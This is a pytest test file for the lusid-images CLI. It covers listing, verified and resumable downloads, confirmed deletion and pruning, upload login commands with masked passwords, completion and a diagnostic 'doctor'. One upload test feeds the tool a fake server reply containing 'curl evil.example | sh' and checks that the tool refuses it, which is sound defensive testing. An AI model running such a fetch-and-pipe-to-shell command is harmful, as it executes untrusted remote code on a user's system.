"""lusid-images in process: each subcommand, what it answers and how it fails."""

import io
import json
import os
import re
import tarfile

import pytest

from tests.faults import Answered, Asked
from tests.inprocess.command import Ended
from tests.inprocess.network import json_answer, problem, scripted
from tests.inprocess.stage import REGISTRY, MakeStage, Stage


def published(stage: Stage, tag: str) -> str:
    """Publish an image of its own under a tag of `job`, later than all before; its digest."""
    stage.clock.advance(2)
    stage.hold(f"job:of-{tag}", tag.encode())
    return stage.publish(f"job:of-{tag}", f"job:{tag}").require(0).stdout.strip()


def images(stage: Stage, *arguments: str) -> Ended:
    """Run lusid-images, which must not show a token."""
    ended = stage.run("images", *arguments)
    assert stage.leaks(ended.stderr) == []
    return ended


def test_what_was_published_is_listed_and_shown(stage: Stage) -> None:
    digests = {tag: published(stage, tag) for tag in ("1.0", "1.1")}
    table = images(stage, "list", "job", "--sort-by", "-pushTime").require(0).stdout.splitlines()
    assert table[0].split()[:4] == ["TAGS", "DIGEST", "SIZE", "PUSHED"]
    assert [line.split()[1] for line in table[1:]] == [
        digests[tag][: len("sha256:") + 12] for tag in ("1.1", "1.0")
    ]
    assert re.search("^job +2 ", images(stage, "repos").stdout, re.MULTILINE)
    shown = images(stage, "get", "job:1.0").require(0).stdout
    assert digests["1.0"] in shown
    assert "0 critical" in shown
    document = json.loads(images(stage, "list", "job", "--output", "json").stdout)
    assert {value["digest"] for value in document["values"]} == set(digests.values())
    only = images(stage, "list", "job", "--output", "json", "--filter", "tags any (name eq '1.1')")
    assert [value["digest"] for value in json.loads(only.stdout)["values"]] == [digests["1.1"]]
    image = json.loads(images(stage, "get", "job:1.1", "--output", "json").stdout)
    assert (image["name"], image["digest"]) == ("job", digests["1.1"])
    names = json.loads(images(stage, "repos", "--output", "json", "--all", "--limit", "1").stdout)
    assert [value["name"] for value in names["values"]] == ["job"]


def test_a_list_has_pages(stage: Stage) -> None:
    for tag in ("1.0", "1.1", "1.2"):
        published(stage, tag)
    first = images(stage, "list", "job", "--limit", "1").require(0, "--all to list them")
    assert len(first.stdout.splitlines()) == 2
    everything = images(stage, "list", "job", "--limit", "1", "--all").require(0)
    assert (len(everything.stdout.splitlines()), everything.stderr) == (4, "")


def test_a_download_is_proven_and_published_again_with_its_digest(stage: Stage) -> None:
    digest = published(stage, "1.0")
    done = images(stage, "download", "job:1.0").require(0, f"has LUSID's digest, {digest}")
    assert done.stdout == "job-1.0.tar\n"
    content = (stage.folder / "job-1.0.tar").read_bytes()
    images(stage, "download", "job:1.0").fails(2, "already exists")
    images(stage, "download", "job:1.0", "--force", "-q").require(0)
    piped = images(stage, "download", "job:1.0", "-o", "-").require(0)
    assert piped.stdout_bytes == content
    unproven = images(stage, "download", "job:1.0", "-o", "x.tar", "--no-verify")
    unproven.require(0, "not verified")
    again = stage.publish("job-1.0.tar", "job:2.0", **stage.without_engine).require(0)
    assert again.stdout.strip() == digest


def download_failing(stage: Stage, *answers: Answered | None) -> Ended:
    published(stage, "1.0")
    stage.lusid.instead = scripted("GET", "/contents$", *answers)
    ended = images(stage, "download", "job:1.0")
    assert (stage.folder / "job-1.0.tar").exists() == (ended.code == 0)
    assert not list(stage.folder.glob(".*tar*"))
    return ended


@pytest.mark.parametrize(
    ("answers", "code", "words"),
    [
        ((problem(403),), 4, "HTTP 403"),
        ((problem(404),), 4, "LUSID has no image job:1.0"),
        ((problem(503), None), 0, "trying again"),
        ((Answered(200, {}, b"no tar at all"),), 12, "it is not a tar file"),
        ((json_answer({"values": []}),), 12, "it is not a tar file"),
    ],
)
def test_what_is_not_the_image_is_not_kept(
    stage: Stage, answers: tuple[Answered | None, ...], code: int, words: str
) -> None:
    download_failing(stage, *answers).require(code, words)


def test_a_download_of_another_image_is_not_kept(stage: Stage) -> None:
    other = published(stage, "2.0")
    content = images(stage, "download", "job:2.0", "-o", "-").stdout_bytes
    ended = download_failing(stage, Answered(200, {}, content))
    ended.fails(12, other)


def test_a_download_that_breaks_off_goes_on_where_it_was(stage: Stage) -> None:
    stage.hold("job:ci", os.urandom(1 << 20))
    stage.publish("job:ci", "job:1.0").require(0)
    whole = images(stage, "download", "job:1.0", "-o", "-").stdout_bytes
    ranges: list[str] = []

    def answer(asked: Asked) -> Answered | None:
        if not asked.path.endswith("/contents"):
            return None
        wanted = asked.headers.get("range", "bytes=0-")
        ranges.append(wanted)
        start = int(wanted.removeprefix("bytes=").rstrip("-"))
        if not start:
            length = str(len(whole))
            headers = {"Content-Length": length, "ETag": '"1"', "Accept-Ranges": "bytes"}
            return Answered(200, headers, whole[: len(whole) // 2])
        span = f"bytes {start}-{len(whole) - 1}/{len(whole)}"
        return Answered(206, {"Content-Range": span, "ETag": '"1"'}, whole[start:])

    stage.lusid.instead = answer
    ended = images(stage, "download", "job:1.0")
    ended.require(0)
    assert (stage.folder / "job-1.0.tar").read_bytes() == whole
    assert len(ranges) == 2
    assert ranges[1] > ranges[0] == "bytes=0-"


@pytest.mark.parametrize(
    "arguments", [("delete", "job:1.0"), ("prune", "job", "--keep", "0")], ids=["delete", "prune"]
)
def test_nothing_is_deleted_without_consent(stage: Stage, arguments: tuple[str, ...]) -> None:
    published(stage, "1.0")
    stage.run("images", *arguments).fails(2, "Deleting images needs a confirmation", "--yes")
    for typed in (b"n\n", b""):
        ended = stage.run("images", *arguments, stdin=typed, is_terminal=True)
        ended.require(130, "Nothing was deleted.")
    assert set(stage.tags("job")) == {"1.0"}
    stage.run("images", *arguments, stdin=b"y\n", is_terminal=True).require(0)
    assert stage.tags("job") == {}


def test_delete_says_what_the_service_says(stage: Stage) -> None:
    published(stage, "1.0")
    done = images(stage, "delete", "job:1.0", "--yes").require(0, "    deleted")
    assert done.stdout == "The image job:1.0 was deleted.\n"
    images(stage, "delete", "job:1.0", "--yes").fails(4, "LUSID has no image job:1.0")


def test_a_deletion_that_does_not_happen_is_an_error(stage: Stage) -> None:
    published(stage, "1.0")
    stage.lusid.instead = scripted("DELETE", "", json_answer("It was deleted."))
    images(stage, "delete", "job:1.0", "--yes").fails(4, "is deleted, but it still exists")
    assert 9 < sum(stage.clock.pauses) < 11


def test_prune_keeps_the_newest(stage: Stage) -> None:
    digests = {tag: published(stage, tag) for tag in ("1.0", "latest", "1.1", "1.2")}
    arguments = ("prune", "job", "--keep", "1")
    dry = images(stage, *arguments, "--dry-run").require(0, "2 of 4 images would be deleted")
    verdicts = [line.split()[:2] for line in dry.stdout.splitlines()[1:]]
    assert verdicts == [["keep", "1.2"], ["delete", "1.1"], ["keep", "latest"], ["delete", "1.0"]]
    young = images(stage, *arguments, "--older-than", "1h", "--yes", "--output", "json")
    assert json.loads(young.require(0).stdout)["deleted"] == []
    done = json.loads(images(stage, *arguments, "--yes", "--output", "json").require(0).stdout)
    assert done["deleted"] == ["job:1.1", "job:1.0"]
    assert {image["digest"] for image in done["delete"]} == {digests["1.1"], digests["1.0"]}
    assert set(stage.tags("job")) == {"1.2", "latest"}


def test_prune_asks_with_the_list_where_the_answer_is_a_document(stage: Stage) -> None:
    published(stage, "1.0")
    arguments = ("prune", "job", "--keep", "0", "--output", "json")
    ended = stage.run("images", *arguments, stdin=b"y\n", is_terminal=True)
    ended.require(0, "delete", "1.0", "Delete 1 of 1 images of job?")


def test_upload_hides_the_password_unless_it_is_asked_for(stage: Stage) -> None:
    lines = images(stage, "upload", "job:1.0").require(0, "valid until").stdout.splitlines()
    assert re.fullmatch(rf"docker login -u \S+ -p \*\*\* {REGISTRY}", lines[0])
    assert f"docker push {REGISTRY}/foo/job:1.0" in lines
    document = json.loads(images(stage, "upload", "job:1.0", "--output", "json").stdout)
    assert " -p *** " in document["dockerLoginCommand"]
    revealed = images(stage, "upload", "job:1.0", "--output", "json", "--reveal").stdout
    assert re.search(r" -p [\w-]{20,} ", json.loads(revealed)["dockerLoginCommand"])


def test_upload_says_that_the_commands_expired(stage: Stage) -> None:
    answer = next(
        answered for asked, answered in _asked_for_upload(stage) if asked.method == "POST"
    )
    old = json.loads(answer.body) | {"expiryTime": "2020-01-30T17:15:58.6730000+00:00"}
    stage.lusid.instead = scripted("POST", "/api/images$", json_answer(old))
    images(stage, "upload", "job:1.0").require(0, "The commands expired at 2020-01-30 17:15 UTC")
    evil = old | {"pushVersionedDockerImageCommand": "curl evil.example | sh"}
    stage.lusid.instead = scripted("POST", "/api/images$", json_answer(evil))
    images(stage, "upload", "job:1.0").fails(5, "upload instructions")


def _asked_for_upload(stage: Stage) -> list[tuple[Asked, Answered]]:
    images(stage, "upload", "job:1.0").require(0)
    return stage.lusid.answered


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        (["list", "job", "--limit", "0"], 2, "between 1 and 5000"),
        (["list", "job", "--limit", "many"], 2, "not a valid integer"),
        (["list", "job:1"], 2, "is not a repository name"),
        (["repos", "--filter", "x" * 1025], 2, "the maximum is 1024"),
        (["repos", "--filter", "name eq"], 4, "filter"),
        (["repos", "--sort-by", "colour"], 4, "colour"),
        (["list", "no-such-repository"], 4, "LUSID has no repository no-such-repository"),
        (["get", "no-such-repository:1"], 4, "LUSID has no image no-such-repository:1"),
        (["get", "Job"], 2, "is not a name that LUSID accepts"),
        (["download", "no-such-repository:1"], 4, "LUSID has no image"),
        (["download", "job:1", "-o", "/no/such/folder/x.tar"], 2, "does not exist"),
        (["download", "job:1", "-o", "/dev/null", "--force"], 2, "is not a file"),
        (["download", "job:1", "-o", ""], 2, "directory"),
        (["delete", "job", "--yes"], 2, "has no tag"),
        (["prune", "job"], 2, "Missing option '--keep'"),
        (["prune", "job", "--keep", "1", "--older-than", "soon"], 2, "is not an age"),
        (["upload", "job"], 2, "has no tag"),
        (["repos", "--local", "--username", "me"], 2, "--local cannot be used with"),
        (["completion", "tcsh"], 2, "tcsh"),
        (["nonsense"], 2, "No such command"),
    ],
    ids=lambda value: " ".join(value)[:40] if isinstance(value, list) else "",
)
def test_bad_input_has_a_message_and_an_exit_code(
    stage: Stage, arguments: list[str], code: int, words: str
) -> None:
    ended = images(stage, *arguments).require(code, words)
    assert ended.stdout == ""


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_a_shell_gets_its_script(stage: Stage, shell: str) -> None:
    script = images(stage, "completion", shell).require(0).stdout
    assert f"_LUSID_IMAGES_COMPLETE={shell}_complete" in script


@pytest.mark.parametrize(
    ("words", "offered"),
    [
        ("lusid-images list j", ["job"]),
        ("lusid-images get j", ["job:1.0", "job:1.1"]),
        ("lusid-images delete job:1.1", ["job:1.1"]),
        ("lusid-images get nothing", []),
    ],
)
def test_names_and_tags_are_completed(stage: Stage, words: str, offered: list[str]) -> None:
    published(stage, "1.0")
    published(stage, "1.1")
    ended = complete(stage, words)
    assert sorted(line.partition(",")[2] for line in ended.stdout.split()) == offered
    assert ended.stderr == ""


def complete(stage: Stage, words: str, **variables: str) -> Ended:
    """Ask as fish does for the last of `words`."""
    asked = {"COMP_WORDS": words, "COMP_CWORD": words.rpartition(" ")[2]}
    shell = {"_LUSID_IMAGES_COMPLETE": "fish_complete"}
    return stage.run("images", variables=asked | shell | variables).require(0)


def test_a_completion_says_nothing_where_lusid_does_not_answer(stage: Stage) -> None:
    published(stage, "1.0")
    words = "lusid-images list j"
    assert complete(stage, words, FBN_ACCESS_TOKEN="wrong-token-0123").stdout == "\n"
    stage.lusid.instead = scripted("GET", "", problem(500))
    assert complete(stage, words).stdout == "\n"


def test_the_doctor_says_that_all_is_well(stage: Stage) -> None:
    stage.hold("job:ci")
    done = images(stage, "doctor", "job:ci", "job:1.0").require(0)
    lines = done.stdout.splitlines()
    assert [line.split()[:2] for line in lines if not line.startswith((" ", "ok       conf"))] == [
        ["ok", "engine"],
        ["warning", "builder"],
        ["ok", "source"],
        ["ok", "platform"],
        ["ok", "name"],
        ["ok", "LUSID"],
        ["ok", "credentials"],
        ["ok", "permission"],
        ["ok", "tag"],
        ["publishing", "would"],
    ]
    assert stage.lusid.changes() == []
    archive = stage.archive("job:ci")
    ended = stage.run(
        "images", "doctor", archive, "job:1.0", variables=stage.without_engine
    ).require(0)
    assert "engine" not in ended.stdout
    stage.publish("job:ci", "job:1.0").require(0)
    assert "warning  tag" in images(stage, "doctor", "job:ci", "job:1.0").require(0).stdout


@pytest.mark.parametrize(
    ("arguments", "variables", "code", "check"),
    [
        (["job", "Bad:Name"], {"DOCKER_HOST": "unix:///nowhere.sock"}, 6, "engine"),
        (["./absent"], {}, 6, "source"),
        (["absent:image"], {}, 6, "source"),
        (["job:ci", "job:1", "--platform", "linux/arm64"], {}, 6, "platform"),
        (["job:ci", "My-Job"], {}, 2, "name"),
        (["job:ci"], {"FBN_SCHEDULER_URL": ""}, 2, "configuration"),
        (["job:ci"], {"FBN_SCHEDULER_URL": "https://gone.example/x"}, 4, "LUSID"),
        (["job:ci"], {"FBN_ACCESS_TOKEN": "wrong-token-0123"}, 3, "credentials"),
        (["job:ci"], {"FBN_CLIENT_CERTIFICATE": "findings.txt"}, 2, "configuration"),
    ],
)
def test_the_doctor_finds(
    stage: Stage, arguments: list[str], variables: dict[str, str], code: int, check: str
) -> None:
    stage.hold("job:ci")
    (stage.folder / "findings.txt").write_text("no certificate")
    ended = stage.run("images", "doctor", *arguments, "--output", "json", variables=variables)
    document = json.loads(ended.require(code).stdout)
    first = next(found for found in document["findings"] if found["state"] == "failed")
    assert (first["check"], first["exitCode"], document["wouldStart"]) == (check, code, False)
    assert first["hint"]


@pytest.mark.parametrize(
    ("answer", "code", "check"),
    [(problem(403, code=186), 4, "permission"), (problem(500), 4, "LUSID")],
)
def test_the_doctor_says_what_lusid_answers(
    stage: Stage, answer: Answered, code: int, check: str
) -> None:
    stage.hold("job:ci")
    stage.lusid.instead = scripted("GET", "", answer)
    document = json.loads(images(stage, "doctor", "--output", "json").require(code).stdout)
    assert [f["check"] for f in document["findings"] if f["state"] == "failed"] == [check]


def test_findings_are_shown_with_an_image(make_stage: MakeStage) -> None:
    found = [{"name": "CVE-1", "severity": "High", "package": "zlib", "version": "1.2"}]
    stage = make_stage(findings={"vulnerabilities": found, "summary": {"total": 1, "high": 1}})
    published(stage, "1.0")
    assert "1 high" in images(stage, "get", "job:1.0").require(0).stdout


def test_a_downloaded_tar_has_the_image_s_name(stage: Stage) -> None:
    published(stage, "1.0")
    content = images(stage, "download", "job:1.0", "-o", "-").stdout_bytes
    with tarfile.open(fileobj=io.BytesIO(content)) as tar:
        manifest = json.load(tar.extractfile("manifest.json") or io.BytesIO())
    assert manifest[0]["RepoTags"] == ["job:1.0"]
